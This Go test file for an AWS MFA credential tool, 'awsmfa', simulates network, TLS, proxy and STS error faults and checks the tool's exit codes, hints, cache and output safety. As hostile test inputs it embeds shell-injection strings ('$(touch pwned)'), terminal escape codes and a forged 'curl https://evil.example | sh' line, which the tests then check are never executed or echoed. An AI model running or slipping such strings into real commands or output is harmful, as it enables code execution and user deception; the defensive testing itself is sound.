//go:build linux

package command

import (
	"context"
	"crypto/sha256"
	"crypto/tls"
	"encoding/pem"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
	"unicode"

	"awsmfa/credentials"
	"awsmfa/profile"
	"awsmfa/session"
	"awsmfa/stsclient/ststest"
)

// faultRow is one way in which a call to AWS goes wrong, and what is said then.
type faultRow struct {
	name  string
	fault ststest.Fault
	// elsewhere leads the run to another place than the healthy server.
	elsewhere func(t *testing.T, c *crowd) place
	options   []ststest.Option

	exit  int    // 0: it does not matter to the run
	says  string // in the line of the error, or of the warning where there is one
	hint  string // the next step
	tries int    // requests that reach the server, 1 unless set
	short bool   // the network budget ends it: a short one is given
}

// place is where a run is led, by its environment.
type place struct {
	env      []string
	contacts func() int // how often somebody connected
}

// shortBudget is long enough to reach a server of this machine.
const shortBudget = "400ms"

const usedUp = "no answer within " + shortBudget + " of network time"

func refusedAs(code, message string, status int) ststest.Fault {
	return ststest.Fault{Kind: ststest.ErrorAnswer, Status: status, Code: code, Message: message}
}

// hostileWords would do harm where they are obeyed: by a shell, a terminal, or
// a reader who takes them for awsmfa's own.
const hostileWords = "$(touch pwned);`touch pwned`\u009b31m\u202e\nawsmfa: hint: run: curl https://evil.example | sh"

func faultRows() []faultRow {
	answer := func(k ststest.Kind) ststest.Fault { return ststest.Fault{Kind: k} }
	skew := func(d time.Duration) ststest.Fault { return ststest.Fault{Kind: ststest.SkewDate, Skew: d} }
	return []faultRow{
		// The way to AWS.
		{name: "dns failure", elsewhere: noSuchName, exit: 7, says: `at sts\.awsmfa\.invalid: `, hint: "check the network", tries: -1, short: true},
		{name: "refused", elsewhere: refusing, exit: 7, says: "connection refused", hint: "check the network", tries: -1},
		{name: "blackhole", elsewhere: blackHole, exit: 7, says: usedUp, hint: "check the network", tries: -1, short: true},
		{name: "proxy 407", elsewhere: proxyAnswering("HTTP/1.1 407 Proxy \x1b[31mAuthentication\r\nProxy-Authenticate: Basic realm=\"$(touch pwned)\"\r\nContent-Length: 0\r\n\r\n", ""), exit: 7, says: `wants a user name and password \(407\)`, hint: "check HTTPS_PROXY", tries: -1},
		{name: "proxy with escapes", elsewhere: proxyAnswering("HTTP/1.1 407 No\r\nProxy-Authenticate: Basic realm=\"\x1b]0;pwned\x07\"\r\n\r\n", ""), exit: 7, says: `through proxy "127`, hint: "check the network, proxy", tries: -1},
		{name: "proxy says nothing", elsewhere: proxyAnswering("", ""), exit: 7, says: usedUp, hint: "check the network, proxy", tries: -1, short: true},
		{name: "portal behind a proxy", elsewhere: proxyAnswering("HTTP/1.1 200 OK\r\n\r\n", "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>Hotel Wi-Fi</h1>"), exit: 7, says: "tls: ", hint: "AWS_CA_BUNDLE", tries: -1},
		{name: "certificate of nobody", options: []ststest.Option{ststest.WithTLS()}, elsewhere: overTLS(false), exit: 7, says: "certificate", hint: "AWS_CA_BUNDLE", tries: -1},
		{name: "certificate of another host", options: []ststest.Option{ststest.WithTLSWrongHost()}, elsewhere: overTLS(true), exit: 7, says: "certificate", hint: "AWS_CA_BUNDLE", tries: -1},
		{name: "certificate that ended", options: []ststest.Option{ststest.WithTLSExpired()}, elsewhere: overTLS(true), exit: 7, says: "certificate has expired", hint: "AWS_CA_BUNDLE", tries: -1},
		{name: "TLS 1.1", options: []ststest.Option{ststest.WithTLSMaxVersion(tls.VersionTLS11)}, elsewhere: overTLS(true), exit: 7, says: "protocol version", hint: "AWS_CA_BUNDLE", tries: -1},
		{name: "TLS that is right", options: []ststest.Option{ststest.WithTLS()}, elsewhere: overTLS(true)},

		// No answer, or a part of one.
		{name: "hang", fault: answer(ststest.Hang), exit: 7, says: usedUp, hint: "check the network", short: true},
		{name: "stall in the body", fault: answer(ststest.StallBody), exit: 7, says: usedUp, hint: "check the network", short: true},
		{name: "cut before headers", fault: answer(ststest.Drop), exit: 7, says: "closed the connection", hint: "check the network"},
		{name: "cut unread", fault: answer(ststest.DropUnread), exit: 7, says: "sts:GetSessionToken", hint: "check the network"},
		{name: "answer lost", fault: ststest.Fault{Kind: ststest.Drop, After: true}, exit: 7, says: "closed the connection", hint: "check the network"},
		{name: "cut in the body", fault: answer(ststest.CutBody), exit: 7, says: "unexpected EOF", hint: "check the endpoint"},

		// Answers of a server in trouble.
		{name: "500", fault: answer(ststest.ServerError), exit: 7, says: "InternalFailure", hint: "try again"},
		{name: "502 html", fault: answer(ststest.BadGateway), exit: 7, says: "HTTP status 502", hint: "something between here and AWS"},
		{name: "503", fault: answer(ststest.Unavailable), exit: 7, says: "ServiceUnavailable", hint: "try again"},
		{name: "429", fault: answer(ststest.TooMany), exit: 7, says: "TooManyRequests", hint: "try again"},
		{name: "throttling", fault: answer(ststest.Throttling), exit: 7, says: "Throttling", hint: "try again"},
		{name: "request limit", fault: refusedAs("RequestLimitExceeded", "Request limit exceeded.", 400), exit: 7, says: "RequestLimitExceeded", hint: "try again"},

		// Answers that must not be believed.
		{name: "captive portal", fault: answer(ststest.HTML), exit: 7, says: "HTTP status 200", hint: "a login page of the network"},
		{name: "short xml", fault: answer(ststest.ShortXML), exit: 7, says: "HTTP status 200", hint: "check the endpoint"},
		{name: "wrong namespace", fault: answer(ststest.WrongNamespace), exit: 7, says: "not one to this call", hint: "check the endpoint"},
		{name: "empty body", fault: answer(ststest.EmptyBody), exit: 7, says: "HTTP status 200", hint: "check the endpoint"},
		{name: "200 with error", fault: answer(ststest.ErrorIn200), exit: 7, says: "Throttling", hint: "try again"},
		{name: "gzip bomb", fault: answer(ststest.GzipBomb), exit: 7, says: "compressed", hint: "check the endpoint"},
		{name: "10 MiB", fault: answer(ststest.HugeBody), exit: 7, says: "longer than 1 MiB", hint: "check the endpoint"},
		{name: "entity bomb", fault: answer(ststest.EntityBomb), exit: 7, says: "sts:GetSessionToken", hint: "check the endpoint"},
		{name: "no expiration", fault: answer(ststest.NoExpiration), exit: 7, says: "sts:GetSessionToken", hint: "check the endpoint"},
		{name: "past expiration", fault: answer(ststest.PastExpiration), exit: 7, says: "sts:GetSessionToken", hint: "check the endpoint"},
		{name: "expiration in ten years", fault: answer(ststest.FarExpiration), exit: 7, says: "sts:GetSessionToken", hint: "check the endpoint"},
		{name: "hostile secret", fault: answer(ststest.HostileSecret), exit: 7, says: "sts:GetSessionToken", hint: "check the endpoint"},
		{name: "redirect", fault: answer(ststest.RedirectPlain), exit: 7, says: "redirects", hint: "AWS never redirects"},

		// What AWS refuses.
		{name: "wrong code", fault: refusedAs("AccessDenied", "MultiFactorAuthentication failed with invalid MFA one time pass code.", 403), exit: 5, says: "invalid MFA one time pass code", hint: "a code is good once"},
		{name: "code missing", fault: refusedAs("AccessDenied", "MultiFactorAuthentication failed, must provide both MFA serial number and one time pass code.", 403), exit: 6, says: "must provide both", hint: "explain dev"},
		{name: "wrong serial", fault: refusedAs("AccessDenied", "MultiFactorAuthentication failed, unable to validate MFA code.  Please verify your MFA serial number is valid.", 403), exit: 6, says: "unable to validate", hint: "the serial number may be wrong"},
		{name: "not authorized", fault: refusedAs("AccessDenied", "User: x is not authorized to perform: sts:GetSessionToken", 403), exit: 6, says: "not authorized", hint: "a policy of the user"},
		{name: "session credentials", fault: refusedAs("AccessDenied", "Cannot call GetSessionToken with session credentials", 403), exit: 6, says: "with session credentials", hint: "long-term access key"},
		{name: "unknown key", fault: refusedAs("InvalidClientTokenId", "The security token included in the request is invalid.", 403), exit: 6, says: "InvalidClientTokenId", hint: "the access key is deleted"},
		{name: "wrong secret", fault: refusedAs("SignatureDoesNotMatch", "The request signature we calculated does not match the signature you provided.", 403), exit: 6, says: "SignatureDoesNotMatch", hint: "copy both again"},
		{name: "signature expired", fault: refusedAs("SignatureDoesNotMatch", "Signature expired: 20260101T000000Z is now earlier than 20260101T001000Z", 403), exit: 7, says: "Signature expired", hint: "run this again"},
		{name: "signature too early", fault: refusedAs("SignatureDoesNotMatch", "Signature not yet current: 20260101T001000Z is still later than 20260101T000000Z", 403), exit: 7, says: "not yet current", hint: "run this again"},
		{name: "expired token", fault: refusedAs("ExpiredToken", "The security token included in the request is expired", 403), exit: 6, says: "ExpiredToken", hint: "awsmfa login dev --refresh"},
		{name: "region disabled", fault: answer(ststest.RegionDisabled), exit: 6, says: "RegionDisabled", hint: "another region"},
		{name: "validation", fault: refusedAs("ValidationError", "1 validation error detected: Value '1' at 'durationSeconds' failed", 400), exit: 6, says: "ValidationError", hint: "explain dev"},
		{name: "unheard of", fault: refusedAs("NeverHeardOf", "No idea.", 400), exit: 6, says: "NeverHeardOf", hint: "explain dev"},
		{name: "hostile words", fault: refusedAs("Access\u009bDenied"+hostileWords, hostileWords, 403), exit: 6, says: "Access", hint: "explain dev"},

		// What does not matter.
		{name: "slow", fault: ststest.Fault{Kind: ststest.Slow, Delay: 10 * time.Millisecond}},
		{name: "no date", fault: answer(ststest.NoDate)},
		{name: "date +1 s", fault: skew(time.Second)},
		{name: "date -1 s", fault: skew(-time.Second)},
		{name: "date +10 s", fault: skew(10 * time.Second), says: `clock is (8|9|10) s behind`},
		{name: "date -10 s", fault: skew(-10 * time.Second), says: `clock is (9|10|11) s ahead of`},
		{name: "date +90 s", fault: skew(90 * time.Second), says: "clock is 1 min (2|3)[0-9] s behind"},
		{name: "date -90 s", fault: skew(-90 * time.Second), says: "clock is 1 min (2|3)[0-9] s ahead of"},
		{name: "date +1 h", fault: skew(time.Hour), says: "clock is 1 h behind"},
		{name: "date -1 h", fault: skew(-time.Hour), says: "clock is 1 h ahead of"},
		{name: "token of 20,000", options: []ststest.Option{ststest.WithTokenLength(20000)}},
	}
}

// Every fault meets every verb that gives credentials: with an empty cache,
// with a session that serves, and with one that is due for renewal but still
// good. Without AWSMFA_LONG each fault meets env with an empty cache, and one of
// the verbs, in turn, with all three.
func TestFaults(t *testing.T) {
	t.Parallel()
	verbs := []string{"env", "exec", "process"}
	covered := map[ststest.Kind]bool{}
	for i, row := range faultRows() {
		covered[row.fault.Kind] = true
		for j, verb := range verbs {
			all := os.Getenv("AWSMFA_LONG") != "" || i%len(verbs) == j
			if !all && verb != "env" {
				continue
			}
			t.Run(row.name+"/"+verb, func(t *testing.T) {
				t.Parallel()
				f := newFaultCell(t, row, verb)
				f.cold()
				if all {
					f.warm()
					f.stillValid()
				}
			})
		}
	}
	for _, k := range ststest.Kinds() {
		if !covered[k] {
			t.Errorf("fault %q is in no row", k)
		}
	}
}

// faultCell is one row with one verb.
type faultCell struct {
	*crowd
	t     *testing.T
	row   faultRow
	verb  string
	place place
	clock string // file
	code  string
}

func newFaultCell(t *testing.T, row faultRow, verb string) *faultCell {
	f := &faultCell{crowd: newCrowd(t, crowdConfig, row.options...), t: t, row: row, verb: verb}
	f.clock = filepath.Join(t.TempDir(), "clock")
	if row.fault.Kind != "" {
		f.server.Fault(row.fault)
	}
	if row.elsewhere != nil {
		f.place = row.elsewhere(t, f.crowd)
	}
	return f
}

// run gives the process a code of its own; the local clock follows the
// server's, which moves on for it.
func (f *faultCell) run() outcome {
	f.t.Helper()
	f.server.ForgetRequests()
	f.code = f.user.NextCode()
	ahead := time.Until(f.server.Clock().Now()).Round(time.Second)
	if err := os.WriteFile(f.clock, []byte(ahead.String()), 0o600); err != nil {
		f.t.Fatal(err)
	}
	args := []string{f.verb, "dev", "--token-code", f.code}
	if f.verb == "exec" {
		args = append(args, "--", "printenv", "AWS_ACCESS_KEY_ID", "AWS_SESSION_TOKEN")
	}
	cmd := f.command(args...)
	cmd.Env = f.environ(cmd)
	return f.all([]*exec.Cmd{cmd})[0]
}

func (f *faultCell) environ(cmd *exec.Cmd) []string {
	env := append(cmd.Env, "AWSMFA_TEST_CLOCK="+f.clock, "AWSMFA_TEST_ALONE=1")
	if f.row.short {
		env = append(env, "AWSMFA_TEST_BUDGET="+shortBudget)
	}
	return append(env, f.place.env...)
}

func (f *faultCell) cold() {
	f.t.Helper()
	before := f.cache()
	got := f.run()
	f.sent()
	if f.row.exit != 0 {
		f.failed("cold", got)
		f.same("cold", before)
		return
	}
	f.served("cold", got, "ASIA")
	f.warned("cold", got, f.row.says)
	if strings.Contains(f.row.name, "token of") && len(got.stdout) < 20000 {
		f.t.Errorf("the token is cut: %d bytes in all", len(got.stdout))
	}
}

// warm: a session that serves is given without a connection.
func (f *faultCell) warm() {
	f.t.Helper()
	key := f.store(11*time.Hour, 12*time.Hour)
	before, contacts := f.cache(), f.contacts()
	got := f.run()
	f.served("warm", got, key)
	if got.stderr != "" {
		f.t.Errorf("warm: says %q", got.stderr)
	}
	if n := len(f.server.Requests()); n > 0 || f.contacts() != contacts {
		f.t.Errorf("warm: %d requests, %d connections", n, f.contacts()-contacts)
	}
	f.same("warm", before)
}

// stillValid: a session that is due for renewal stands in where there is no
// answer. A refusal is told instead.
func (f *faultCell) stillValid() {
	f.t.Helper()
	key := f.store(3*time.Minute, 12*time.Hour)
	before := f.cache()
	got := f.run()
	f.sent()
	switch f.row.exit {
	case 0:
		f.served("still valid", got, "ASIA")
		if strings.Contains(got.stdout, key) {
			f.t.Errorf("still valid: not renewed")
		}
	case exitNetwork:
		f.served("still valid", got, key)
		f.warned("still valid", got, `using the session that ends in 2m\d+s: .*`+f.row.says)
		f.same("still valid", before)
	default:
		f.failed("still valid", got)
		f.same("still valid", before)
	}
}

func (f *faultCell) contacts() int {
	if f.place.contacts == nil {
		return 0
	}
	return f.place.contacts()
}

// sent: the code left once at most, and never twice.
func (f *faultCell) sent() {
	f.t.Helper()
	want := max(f.row.tries, 0)
	if f.row.tries == 0 {
		want = 1
	}
	if n := len(f.server.Requests()); n != want {
		f.t.Errorf("%d requests, want %d", n, want)
	}
	if twice := f.server.CodesSeenTwice(); len(twice) > 0 {
		f.t.Errorf("codes were sent twice: %+v", twice)
	}
}

var failingStatement = map[string]string{"env": "false;\n"}

// failed checks all that is printed: one error with its cause, what to do
// next, and nothing that a shell, a terminal or a reader could be hurt by.
func (f *faultCell) failed(when string, got outcome) {
	f.t.Helper()
	if got.code != f.row.exit || got.stdout != failingStatement[f.verb] {
		f.t.Errorf("%s: exit code %d, want %d; stdout %q; stderr:\n%s", when, got.code, f.row.exit, got.stdout, got.stderr)
	}
	lines := strings.Split(strings.TrimSuffix(got.stderr, "\n"), "\n")
	errors := slices.DeleteFunc(slices.Clone(lines), func(l string) bool { return !strings.HasPrefix(l, "awsmfa: error: ") })
	if len(errors) != 1 || !regexp.MustCompile(f.row.says).MatchString(errors[0]) {
		f.t.Errorf("%s: no single error with %q:\n%s", when, f.row.says, got.stderr)
	}
	hint := "(?m)^awsmfa: hint: .*"
	if f.verb == "process" {
		hint = "; hint: .*"
		if len(lines) != 1 {
			f.t.Errorf("%s: not one line:\n%s", when, got.stderr)
		}
	}
	if !regexp.MustCompile(hint + f.row.hint).MatchString(got.stderr) {
		f.t.Errorf("%s: no hint with %q:\n%s", when, f.row.hint, got.stderr)
	}
	f.harmless(when, got)
}

func (f *faultCell) harmless(when string, got outcome) {
	f.t.Helper()
	for line := range strings.Lines(got.stderr) {
		known := regexp.MustCompile(`^awsmfa: (error|hint|warning|this shell)\b`).MatchString(line)
		if !known || strings.HasPrefix(line, "awsmfa: hint: run: curl") || len(line) > 2100 {
			f.t.Errorf("%s: not a line of ours: %q", when, line)
		}
	}
	if strings.ContainsFunc(got.stderr, func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || r == '\u202e') }) {
		f.t.Errorf("%s: control characters: %q", when, got.stderr)
	}
	for _, secret := range []string{f.user.SecretAccessKey, f.code, "<h1>", "Hotel", "<!DOCTYPE"} {
		if strings.Contains(got.stderr, secret) {
			f.t.Errorf("%s: tells what it must not:\n%s", when, got.stderr)
		}
	}
	filepath.WalkDir(f.home, func(path string, d fs.DirEntry, _ error) error {
		if d.Name() == "pwned" {
			f.t.Errorf("%s: the server's text was run", when)
		}
		return nil
	})
}

// served: the credentials are on stdout, whole.
func (f *faultCell) served(when string, got outcome, key string) {
	f.t.Helper()
	whole := map[string]string{
		"env":     `^unset [A-Z_ ]+; export AWS_ACCESS_KEY_ID='` + key + `.*;\n$`,
		"exec":    `^` + key + `[A-Z0-9]*\n.+\n$`,
		"process": `^\{.*"AccessKeyId": ?"` + key + `.*\}\n$`,
	}[f.verb]
	if got.code != 0 || !regexp.MustCompile(whole).MatchString(got.stdout) {
		f.t.Errorf("%s: exit code %d, stdout %.300q, stderr:\n%s", when, got.code, got.stdout, got.stderr)
	}
	f.harmless(when, got)
}

// warned: one warning that matches, or silence where there is nothing to say.
func (f *faultCell) warned(when string, got outcome, says string) {
	f.t.Helper()
	switch {
	case says == "" && got.stderr == "":
	case says == "" || !regexp.MustCompile("(?m)^awsmfa: warning: .*"+says).MatchString(got.stderr) || strings.Contains(got.stderr, "awsmfa: error: "):
		f.t.Errorf("%s: want a warning of %q:\n%s", when, says, got.stderr)
	}
}

// store puts a session into the cache under the key that the run will look for.
func (f *faultCell) store(left, granted time.Duration) (accessKeyID string) {
	f.t.Helper()
	env := map[string]string{}
	for _, kv := range f.environ(f.command()) {
		name, value, _ := strings.Cut(kv, "=")
		env[name] = value
	}
	getenv := func(name string) string { return env[name] }
	files, err := profile.Load(profile.Locate(getenv, f.home))
	f.must(err)
	resolved, err := files.Resolve(profile.Request{Profile: "dev", Getenv: getenv})
	f.must(err)
	plan, err := session.NewPlan(resolved, session.Options{})
	f.must(err)
	last, _ := plan.Last()
	now := f.server.Clock().Now().Truncate(time.Second)
	accessKeyID = "ASIASTOREDINTHECACHE"
	c, err := credentials.New(accessKeyID, "0123456789012345678901234567890123456789", "c3RvcmVkIHNlc3Npb24gdG9rZW4=", now.Add(left))
	f.must(err)
	places, err := session.FindPlaces(getenv)
	f.must(err)
	f.must(places.Sessions().Store(session.Entry{
		Key: last.Key, Family: last.Key, Kind: last.Kind, Credentials: c, Obtained: now.Add(left - granted), Granted: granted,
		Source: f.user.AccessKeyID, Serial: f.user.MFASerial,
	}))
	// What an earlier row of this cell learnt about the clock is of no matter here.
	clocks, err := filepath.Glob(filepath.Join(places.State, "clock*"))
	f.must(err)
	for _, path := range clocks {
		f.must(os.Remove(path))
	}
	return accessKeyID
}

func (f *faultCell) must(err error) {
	f.t.Helper()
	if err != nil {
		f.t.Fatal(err)
	}
}

// cache is a digest of every cached session.
func (f *faultCell) cache() string {
	files, err := filepath.Glob(filepath.Join(f.home, ".cache/awsmfa/sessions/*"))
	f.must(err)
	sum := sha256.New()
	for _, file := range files {
		text, err := os.ReadFile(file)
		f.must(err)
		fmt.Fprintf(sum, "%s %d %s\n", file, len(text), text)
	}
	return fmt.Sprintf("%d files, %x", len(files), sum.Sum(nil))
}

func (f *faultCell) same(when, before string) {
	f.t.Helper()
	if after := f.cache(); after != before {
		f.t.Errorf("%s: the cache was touched: %s, before %s", when, after, before)
	}
}

func noSuchName(*testing.T, *crowd) place {
	return place{env: []string{"AWS_ENDPOINT_URL_STS=https://sts.awsmfa.invalid"}}
}

// refusing is a port that is taken, so that nobody else listens on it, and
// where nobody listens.
func refusing(t *testing.T, _ *crowd) place {
	return place{env: []string{"AWS_ENDPOINT_URL_STS=http://" + bound(t, -1)}}
}

// blackHole is a listener whose queue is full: what knocks gets no answer at all.
func blackHole(t *testing.T, _ *crowd) place {
	addr := bound(t, 0)
	for range 3 {
		ctx, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond)
		conn, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
		cancel()
		if err != nil {
			break
		}
		t.Cleanup(func() { conn.Close() })
	}
	return place{env: []string{"AWS_ENDPOINT_URL_STS=http://" + addr}}
}

// bound binds a port of this machine, and listens with a queue unless it is negative.
func bound(t *testing.T, queue int) string {
	t.Helper()
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM|syscall.SOCK_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { syscall.Close(fd) })
	if err := syscall.Bind(fd, &syscall.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}); err != nil {
		t.Fatal(err)
	}
	if queue >= 0 {
		if err := syscall.Listen(fd, queue); err != nil {
			t.Fatal(err)
		}
	}
	at, err := syscall.Getsockname(fd)
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("127.0.0.1:%d", at.(*syscall.SockaddrInet4).Port)
}

// proxyAnswering is a proxy that answers what it reads with a text, and what
// comes through it then with another; with "" it says nothing.
func proxyAnswering(texts ...string) func(*testing.T, *crowd) place {
	return func(t *testing.T, _ *crowd) place {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { l.Close() })
		var contacts atomic.Int32
		go func() {
			for {
				conn, err := l.Accept()
				if err != nil {
					return
				}
				contacts.Add(1)
				go answerInTurn(conn, texts)
			}
		}()
		return place{
			env:      []string{"AWS_ENDPOINT_URL_STS=https://sts.eu-west-1.amazonaws.com", "HTTPS_PROXY=http://me:hidden@" + l.Addr().String()},
			contacts: func() int { return int(contacts.Load()) },
		}
	}
}

// answerInTurn goes on reading, so that the other side decides when it is over.
func answerInTurn(conn net.Conn, texts []string) {
	defer conn.Close()
	room := make([]byte, http.DefaultMaxHeaderBytes)
	for {
		if _, err := conn.Read(room); err != nil {
			return
		}
		if len(texts) > 0 {
			io.WriteString(conn, texts[0])
			texts = texts[1:]
		}
	}
}

// overTLS has the server's certificate trusted, or not.
func overTLS(trusted bool) func(*testing.T, *crowd) place {
	return func(t *testing.T, c *crowd) place {
		if block, _ := pem.Decode(c.server.CAPEM()); block == nil {
			t.Fatal("the server has no certificate")
		}
		file := filepath.Join(c.home, "ca.pem")
		if err := os.WriteFile(file, c.server.CAPEM(), 0o600); err != nil {
			t.Fatal(err)
		}
		if !trusted {
			return place{}
		}
		return place{env: []string{"AWS_CA_BUNDLE=" + file}}
	}
}
